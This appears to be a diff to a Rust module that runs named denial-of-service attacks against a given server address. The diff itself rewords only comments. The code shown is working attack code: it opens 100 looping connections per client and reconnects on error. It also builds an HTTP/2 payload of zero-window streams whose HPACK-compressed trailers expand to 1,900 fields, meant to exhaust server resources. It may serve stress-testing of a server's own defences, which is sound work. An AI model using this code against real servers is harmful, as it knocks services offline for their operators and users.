@@ -7,15 +7,15 @@ use std::{
     time::Duration,
 };
 
-/// The most that one client may have.
+/// The limit of connections for one client.
 const CONNECTIONS_PER_CLIENT: usize = 100;
 /// Pause before a closed connection is opened again.
 const RECONNECT_INTERVAL: Duration = Duration::from_millis(100);
 
-/// Runs the attack of this name.
+/// Runs the attack with this name.
 ///
 /// # Panics
-/// When there is none.
+/// If there is no such attack.
 pub(crate) fn run(name: &str, addr: &str) {
     let addr: SocketAddr = addr.parse().expect("an address");
     let bytes = match name {
@@ -27,7 +27,7 @@ pub(crate) fn run(name: &str, addr: &str) {
         for _ in 0..CONNECTIONS_PER_CLIENT {
             scope.spawn(|| {
                 loop {
-                    // It tries again after an error.
+                    // After an error the attack starts again.
                     let _ = send_repeatedly(addr, &bytes);
                     thread::sleep(RECONNECT_INTERVAL);
                 }
@@ -36,7 +36,7 @@ pub(crate) fn run(name: &str, addr: &str) {
     });
 }
 
-/// Sends the same bytes as long as the server answers, and discards the responses.
+/// Sends the same bytes until the server stops responding, and discards the responses.
 fn send_repeatedly(addr: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
     let mut stream = TcpStream::connect(addr)?;
     let mut response = vec![0; 1 << 16];
@@ -45,7 +45,7 @@ fn send_repeatedly(addr: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
         if stream.read(&mut response)? == 0 {
             return Ok(());
         }
-        // In HTTP/2 they are sent once, and the connection is held open.
+        // In HTTP/2 the bytes are sent once, and the connection stays open.
         if bytes.starts_with(b"PRI") {
             while stream.read(&mut response)? > 0 {}
             return Ok(());
@@ -62,8 +62,8 @@ fn commas() -> Vec<u8> {
     .into_bytes()
 }
 
-/// 16 HTTP/2 streams whose responses cannot be sent, and whose trailers nobody reads: 1,900 fields in 1,900
-/// bytes.
+/// 16 HTTP/2 streams with a window of 0, so that their responses cannot be sent. Each has trailers that nobody reads:
+/// 1,900 fields in 1,900 bytes.
 fn streams() -> Vec<u8> {
     const HEADERS: u8 = 1;
     const SETTINGS: u8 = 4;
@@ -76,12 +76,12 @@ fn streams() -> Vec<u8> {
         bytes.extend(stream.to_be_bytes());
         bytes.extend(content);
     };
-    // The window of each stream is 0.
+    // SETTINGS_INITIAL_WINDOW_SIZE is 0.
     frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
     for stream in (1..).step_by(2).take(16) {
-        // `GET /`, by HPACK's table.
+        // `GET /` as indexes into the HPACK table.
         frame(HEADERS, END_HEADERS, stream, &[0x82, 0x86, 0x84]);
-        // A field that goes into the table, and then its number.
+        // A field that is added to the table, and then its index.
         let mut trailers = b"\x40\x01x\x01a".to_vec();
         trailers.extend([0xbe; 1_900]);
         frame(HEADERS, END_HEADERS | END_STREAM, stream, &trailers);
